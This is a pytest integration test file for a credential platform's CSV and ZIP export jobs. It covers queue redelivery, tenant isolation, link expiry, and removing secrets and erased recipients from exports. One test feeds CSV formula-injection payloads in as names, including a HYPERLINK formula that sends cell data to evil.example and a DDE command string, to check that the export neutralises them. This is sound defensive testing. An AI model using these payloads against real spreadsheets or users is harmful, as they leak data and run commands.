"""Reports and exports (issue 15 item 3): the awards CSV and the organization ZIP,
run as jobs on the bulk queue's worker, with a link valid one hour."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from urllib.parse import parse_qs, urlparse

import boto3
import pytest
from aws_lambda_powertools.utilities.batch.exceptions import BatchProcessingError

from chalicelib.services import exports
from tests.conftest import body, list_bucket, scan_table, sent_mail
from tests.helpers import active_template, auth, issue, new_issuer, post

QUEUE = "laurel-test-bulk"


def drain(client, *, repeat: bool = False) -> int:
    """Deliver everything on the bulk queue to the worker, as Lambda would (`repeat`:
    every message twice, as SQS may)."""
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    delivered = 0
    while True:
        got = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=5).get("Messages", [])
        if not got:
            return delivered
        bodies = [m["Body"] for m in got]
        if repeat:
            bodies += bodies
        event = client.events.generate_sqs_event(message_bodies=bodies, queue_name=QUEUE)
        result = client.lambda_.invoke("bulk_worker", event).payload
        assert result == {"batchItemFailures": []}, result
        for m in got:
            sqs.delete_message(QueueUrl=url, ReceiptHandle=m["ReceiptHandle"])
        delivered += len(got)


def fetch(url: str) -> bytes:
    """The object a presigned link names (moto answers the link's bucket and key)."""
    parsed = urlparse(url)
    key = parsed.path.split("/", 2)[2] if parsed.path.count("/") >= 2 else parsed.path.lstrip("/")
    bucket = "laurel-test-assets"
    if parsed.netloc.startswith(bucket + "."):
        key = parsed.path.lstrip("/")
    from urllib.parse import unquote

    return boto3.client("s3", region_name="us-east-1").get_object(Bucket=bucket, Key=unquote(key))["Body"].read()


def rows_of(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would garble accented names"
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b""), "lines must end in CRLF"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture()
def org(client):
    _, key = new_issuer()
    return key, active_template(client, key)


def export(client, key, **payload):
    res = post(client, "/export-jobs", key, payload)
    assert res.status_code == 202, res.body
    drain(client)
    return body(client.http.get(f"/export-jobs/{body(res)['id']}", headers=auth(key)))


def test_awards_csv_neutralises_formula_payloads(client, org):
    key, tpl = org
    payloads = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1",
                " =1+1", "\uff1d1+1"]
    for n, name in enumerate(payloads):
        assert issue(client, key, tpl, f"p{n}@example.com", first_name=name, last_name="X").status_code == 201
    job = export(client, key, kind="awards")
    assert job["state"] == "completed", job
    names = {r["recipient_name"] for r in rows_of(fetch(job["url"]))}
    # the API trims the names it stores; each comes back as text, behind a quote
    assert names == {"'" + p.strip() + " X" for p in payloads}, names



def test_the_range_and_the_template_choose_the_rows_and_each_row_says_its_state(client, org):
    from datetime import datetime, timezone

    from tests.integration.test_console_credentials import _on

    key, tpl = org
    other_tpl = active_template(client, key, name="Other badge")
    with _on(datetime(2026, 3, 1, 9, tzinfo=timezone.utc)):
        early = body(issue(client, key, tpl, "early@example.com"))["id"]
    with _on(datetime(2026, 3, 2, 9, tzinfo=timezone.utc)):
        revoked = body(issue(client, key, tpl, "rev@example.com"))["id"]
        other = body(issue(client, key, other_tpl, "other@example.com"))["id"]
        assert post(client, f"/credentials/{revoked}/revoke", key, {"reason": "oops"}).status_code == 200
    with _on(datetime(2026, 3, 3, 9, tzinfo=timezone.utc)):
        late = body(issue(client, key, tpl, "late@example.com"))["id"]

    job = export(client, key, kind="awards", **{"from": "2026-03-02", "to": "2026-03-02"})
    rows = {r["credential_id"]: r for r in rows_of(fetch(job["url"]))}
    assert set(rows) == {revoked, other}, rows
    assert rows[revoked]["state"] == "revoked" and rows[revoked]["revoked_at"].startswith("2026-03-02")
    assert rows[other]["state"] == "pending" and rows[other]["recipient_email"] == "other@example.com"
    assert rows[other]["template"] == "Other badge" and rows[other]["views"] == "0" and rows[other]["shares"] == "0"
    assert job["done"] == job["total"] == 2

    per_template = export(client, key, kind="awards", template=tpl)
    assert {r["credential_id"] for r in rows_of(fetch(per_template["url"]))} == {early, revoked, late}
    assert {r["credential_id"] for r in rows_of(fetch(export(client, key, kind="awards", **{"from": "2026-03-03"})
                                                       ["url"]))} == {late}


def test_views_and_shares_come_from_the_engagement_counters(client, org, capsys):
    """Through the real path: page views and share clicks are logged out of band, the
    aggregator counts them (tests/integration/test_engagement.py), the CSV reads them."""
    from chalicelib.services import claims, engagement
    from chalicelib.store import credentials as cred_store
    from tests.helpers import claim_token_from
    from tests.integration.test_engagement import BROWSER, LINKEDIN_BOT, aggregate, event_lines, view

    key, tpl = org
    cid = body(issue(client, key, tpl))["id"]
    quiet = body(issue(client, key, tpl, "alan@example.com"))["id"]
    claims.decide(cid, claim_token_from(next(m["body"] for m in sent_mail() if cid in m["body"]), cid), "accept")
    capsys.readouterr()
    for agent in (BROWSER, BROWSER, LINKEDIN_BOT):
        assert view(client, cid, agent).status_code == 200
    item = cred_store.get(cid)
    for network in ("linkedin", "x"):
        engagement.record("share", item, network)
    engagement.record("linkedin_add", item)
    assert aggregate(client, event_lines(capsys))["counted"] == 6
    rows = {r["credential_id"]: r for r in rows_of(fetch(export(client, key, kind="awards")["url"]))}
    assert (rows[cid]["views"], rows[cid]["shares"]) == ("2", "3")  # the crawler's view is not a view
    assert (rows[cid]["state"], rows[quiet]["views"], rows[quiet]["shares"]) == ("accepted", "0", "0")


def test_another_tenants_template_or_job_is_not_found_and_nothing_is_queued(client, org):
    key, tpl = org
    _, other_key = new_issuer("Other Org")
    other_tpl = active_template(client, other_key)
    before = [i for i in scan_table() if "#EXPORT#" in i["sk"] or i["sk"].startswith("EXPORT#")]
    res = post(client, "/export-jobs", key, {"kind": "awards", "template": other_tpl})
    assert res.status_code == 404, res.body
    assert [i for i in scan_table() if i["sk"].startswith("EXPORT#")] == before
    job = body(post(client, "/export-jobs", key, {"kind": "awards"}))
    res = client.http.get(f"/export-jobs/{job['id']}", headers=auth(other_key))
    assert res.status_code == 404 and body(res)["error"]["code"] == "not_found"
    for bad in ({"kind": "awards", "from": "2026-03-05", "to": "2026-03-01"}, {"kind": "pdf"},
                {"kind": "organization", "from": "2026-03-01"}, {"kind": "awards", "extra": 1}):
        res = post(client, "/export-jobs", key, bad)
        assert res.status_code in (400, 422) and "error" in body(res), (bad, res.body)


def test_the_link_works_for_one_hour_and_names_the_private_file(client, org):
    key, tpl = org
    issue(client, key, tpl)
    job = export(client, key, kind="awards")
    query = parse_qs(urlparse(job["url"]).query)
    assert query["X-Amz-Expires"] == ["3600"] and job["expires_in"] == 3600
    tenant = key.split("_")[2]
    # the file alone is left (its parts are deleted), under the tenant's private exports prefix
    assert [k for k in list_bucket() if k.startswith("exports/")] == [f"exports/org/{tenant}/{job['id']}/"
                                                                     f"{job['file_name']}"]
    assert query["response-content-disposition"] == [f'attachment; filename="{job["file_name"]}"']


def test_a_redelivered_step_adds_no_rows(client, org, monkeypatch):
    key, tpl = org
    monkeypatch.setitem(exports.STEP_ROWS, "awards", 2)
    made = {body(issue(client, key, tpl, f"p{n}@example.com"))["id"] for n in range(5)}
    res = post(client, "/export-jobs", key, {"kind": "awards"})
    assert drain(client, repeat=True) >= 4  # 3 pages and the assembly, every message delivered twice
    job = body(client.http.get(f"/export-jobs/{body(res)['id']}", headers=auth(key)))
    ids = [r["credential_id"] for r in rows_of(fetch(job["url"]))]
    assert sorted(ids) == sorted(made), ids
    assert job["done"] == 5 and job["state"] == "completed"


def test_a_failing_step_leaves_the_job_where_it_was_and_the_redelivery_finishes_it(client, org, monkeypatch):
    from chalicelib.adapters import objects

    key, tpl = org
    monkeypatch.setitem(exports.STEP_ROWS, "awards", 2)
    made = {body(issue(client, key, tpl, f"p{n}@example.com"))["id"] for n in range(3)}
    job_id = body(post(client, "/export-jobs", key, {"kind": "awards"}))["id"]
    real_put, calls = objects.put, []

    def flaky(object_key, *args, **kwargs):
        calls.append(object_key)
        if "part-000001" in object_key and len([c for c in calls if "part-000001" in c]) == 1:
            raise RuntimeError("S3 is having a bad minute")
        return real_put(object_key, *args, **kwargs)

    monkeypatch.setattr(objects, "put", flaky)
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    failed_once = False
    for _ in range(10):
        got = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1, VisibilityTimeout=0).get("Messages", [])
        if not got:
            break
        event = client.events.generate_sqs_event(message_bodies=[got[0]["Body"]], queue_name=QUEUE)
        try:  # a batch whose every record failed fails the invocation: SQS delivers it again
            client.lambda_.invoke("bulk_worker", event)
            stopped = False
        except BatchProcessingError:
            stopped = True
        if stopped:
            failed_once = True
            job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
            assert job["state"] == "running" and job["done"] == 2 and job["url"] is None, job
            continue  # the message stays on the queue and comes back
        sqs.delete_message(QueueUrl=url, ReceiptHandle=got[0]["ReceiptHandle"])
    assert failed_once
    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert job["state"] == "completed", job
    assert sorted(r["credential_id"] for r in rows_of(fetch(job["url"]))) == sorted(made)


def _zip(data: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(data))


def test_the_organization_export_holds_everything_but_secrets_and_erased_people(client, monkeypatch):
    from chalicelib.services import badge_check, rights
    from tests.integration.test_offboarding import build_tenant

    w = build_tenant(client, monkeypatch)
    key = w["key"]
    monkeypatch.setitem(exports.STEP_ROWS, "organization", 2)  # several parts, put together at the end
    job = export(client, key, kind="organization")
    assert job["done"] == job["total"] == len(body(client.http.get("/credentials", headers=auth(key)))["items"]) > 4
    assert job["state"] == "completed", job
    archive = _zip(fetch(job["url"]))
    names = set(archive.namelist())
    manifest = json.loads(archive.read("manifest.json"))
    assert set(manifest["files"]) == names - {"manifest.json"}
    templates = json.loads(archive.read("templates.json"))
    assert {t["id"] for t in templates} == {w["kept_tpl"], w["pending_tpl"], w["draft"]}
    image = next(t["image_file"] for t in templates if t["id"] == w["kept_tpl"])
    assert archive.read(image).startswith(b"\x89PNG")
    assert [i["id"] for i in json.loads(archive.read("integrations.json"))] == [w["integration"]["id"]]
    assert [e["id"] for e in json.loads(archive.read("webhook_endpoints.json"))] == [w["endpoint"]]
    assert json.loads(archive.read("members.json")) == []  # an API-made issuer has no console members
    everything = b"".join(archive.read(n) for n in names)
    assert w["integration"]["secret"].encode() not in everything
    from chalicelib.store import webhooks as webhook_store

    endpoint_secret = webhook_store.get_endpoint(w["tenant"], w["endpoint"]).secret
    assert endpoint_secret.encode() not in everything and endpoint_secret[-4:].encode() not in \
        archive.read("webhook_endpoints.json")
    accepted = w["accepted"]
    record = json.loads(archive.read(f"credentials/{accepted}/credential.json"))
    assert record["recipient"]["email"] == "acc@example.com"
    assert json.loads(archive.read(f"credentials/{accepted}/ob2-assertion.json"))["type"] == "Assertion"
    assert json.loads(archive.read(f"credentials/{w['revoked_after']}/ob2-assertion.json"))["revoked"] is True
    vc = archive.read(f"credentials/{accepted}/ob3-credential.json").decode()
    assert badge_check.verify(badge_check.Input(text=vc))["result"] == "valid"
    jwt = archive.read(f"credentials/{accepted}/ob3-credential.jwt").decode()
    assert badge_check.verify(badge_check.Input(text=jwt))["result"] == "valid"
    assert manifest["credentials"] == len({n.split("/")[1] for n in names if n.startswith("credentials/")})

    # the recipient of the accepted credential is forgotten: the old export goes, a new one has no trace
    rights.erase_on_request("acc@example.com", confirm="erase")
    assert not [k for k in list_bucket() if k.startswith(f"exports/org/{w['tenant']}/")]
    archive = _zip(fetch(export(client, key, kind="organization")["url"]))
    record = json.loads(archive.read(f"credentials/{accepted}/credential.json"))
    assert record["recipient"] is None and record["erased"] is True
    assert not [n for n in archive.namelist() if n.startswith(f"credentials/{accepted}/ob")]
    assert b"acc@example.com" not in b"".join(archive.read(n) for n in archive.namelist())


def test_a_step_counted_but_never_followed_is_taken_up_when_its_message_comes_back(client, org, monkeypatch):
    """The worker stopped between counting a step and queueing the next: the job is
    not stuck, the first message's redelivery (after the visibility timeout) queues
    the next step, and nothing is counted twice."""
    from datetime import timedelta

    from chalicelib.adapters import queue
    from chalicelib.services import clock

    key, tpl = org
    monkeypatch.setitem(exports.STEP_ROWS, "awards", 2)
    made = {body(issue(client, key, tpl, f"p{n}@example.com"))["id"] for n in range(3)}
    job_id = body(post(client, "/export-jobs", key, {"kind": "awards"}))["id"]
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    first = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1)["Messages"][0]
    real_send = queue.send

    def lost(*args, **kwargs):
        raise RuntimeError("the worker stopped here")

    monkeypatch.setattr(queue, "send", lost)
    with pytest.raises(BatchProcessingError):
        client.lambda_.invoke("bulk_worker", client.events.generate_sqs_event(message_bodies=[first["Body"]],
                                                                              queue_name=QUEUE))
    monkeypatch.setattr(queue, "send", real_send)
    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert (job["state"], job["done"]) == ("running", 2)
    assert drain(client) == 0  # nothing queued: without the redelivery the job would wait forever
    real_now = clock.utcnow
    monkeypatch.setattr(clock, "utcnow", lambda: real_now() + timedelta(seconds=exports.STALLED_SECONDS))
    event = client.events.generate_sqs_event(message_bodies=[first["Body"]], queue_name=QUEUE)  # SQS gives it back
    assert client.lambda_.invoke("bulk_worker", event).payload == {"batchItemFailures": []}
    drain(client)
    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert job["state"] == "completed" and job["done"] == 3
    assert sorted(r["credential_id"] for r in rows_of(fetch(job["url"]))) == sorted(made)


def test_a_job_whose_step_kept_failing_is_resumed_on_request(client, org, monkeypatch):
    """SQS gave up on a step that kept failing (its message went to the dead-letter
    queue): the job waits where it was, says it is stalled, and resuming finishes it."""
    from datetime import timedelta

    from chalicelib.adapters import objects
    from chalicelib.services import clock

    key, tpl = org
    made = {body(issue(client, key, tpl, f"p{n}@example.com"))["id"] for n in range(2)}
    job_id = body(post(client, "/export-jobs", key, {"kind": "awards"}))["id"]
    res = client.http.post(f"/export-jobs/{job_id}/resume", headers=auth(key))
    assert res.status_code == 409 and body(res)["error"]["code"] == "not_stalled"
    real_put = objects.put
    monkeypatch.setattr(objects, "put", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("S3 is down")))
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    message = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1)["Messages"][0]
    for _ in range(3):
        with pytest.raises(BatchProcessingError):
            client.lambda_.invoke("bulk_worker", client.events.generate_sqs_event(
                message_bodies=[message["Body"]], queue_name=QUEUE))
    sqs.delete_message(QueueUrl=url, ReceiptHandle=message["ReceiptHandle"])  # off to the dead-letter queue
    monkeypatch.setattr(objects, "put", real_put)
    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert (job["state"], job["done"], job["stalled"]) == ("queued", 0, False)
    real_now = clock.utcnow
    monkeypatch.setattr(clock, "utcnow", lambda: real_now() + timedelta(seconds=exports.STALLED_SECONDS))
    assert body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))["stalled"] is True
    _, other_key = new_issuer("Other Org")
    assert client.http.post(f"/export-jobs/{job_id}/resume", headers=auth(other_key)).status_code == 404
    assert client.http.post(f"/export-jobs/{job_id}/resume", headers=auth(key)).status_code == 202
    drain(client)
    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert job["state"] == "completed"
    assert sorted(r["credential_id"] for r in rows_of(fetch(job["url"]))) == sorted(made)


def test_a_job_whose_parts_an_erasure_deleted_fails_instead_of_stalling(client, org, monkeypatch):
    """Erasing one of its recipients deletes the organization's export files, the parts of a
    running job too (they may name the person): the job cannot be made whole, so it ends
    as failed, saying why, instead of being offered "resume" forever; no file, no link."""
    from chalicelib.services import rights

    key, tpl = org
    monkeypatch.setitem(exports.STEP_ROWS, "awards", 2)
    for n in range(3):
        assert issue(client, key, tpl, f"p{n}@example.com").status_code == 201
    job_id = body(post(client, "/export-jobs", key, {"kind": "awards"}))["id"]
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    (first,) = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1)["Messages"]
    event = client.events.generate_sqs_event(message_bodies=[first["Body"]], queue_name=QUEUE)
    assert client.lambda_.invoke("bulk_worker", event).payload == {"batchItemFailures": []}
    sqs.delete_message(QueueUrl=url, ReceiptHandle=first["ReceiptHandle"])
    assert [k for k in list_bucket() if "/part-" in k], "step 0 wrote its part"

    rights.erase_on_request("p0@example.com", confirm="erase")
    drain(client)

    job = body(client.http.get(f"/export-jobs/{job_id}", headers=auth(key)))
    assert (job["state"], job["error"], job["url"]) == ("failed", exports.PARTS_GONE, None), job
    assert not [k for k in list_bucket() if k.endswith(".csv") and "/part-" not in k and job_id in k]
